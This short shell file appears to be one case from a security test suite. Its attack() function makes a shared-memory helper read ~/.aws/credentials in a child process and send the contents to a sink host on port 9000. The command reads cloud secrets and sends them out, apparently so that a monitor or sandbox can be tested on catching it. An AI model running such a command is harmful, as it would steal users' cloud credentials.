# SPDX-License-Identifier: Apache-2.0
TITLE="two processes in one address space: the child reads, the parent sends"
attack() { "$PROVOKE/shm" child "$HOME/.aws/credentials" "$SINK4" 9000; }
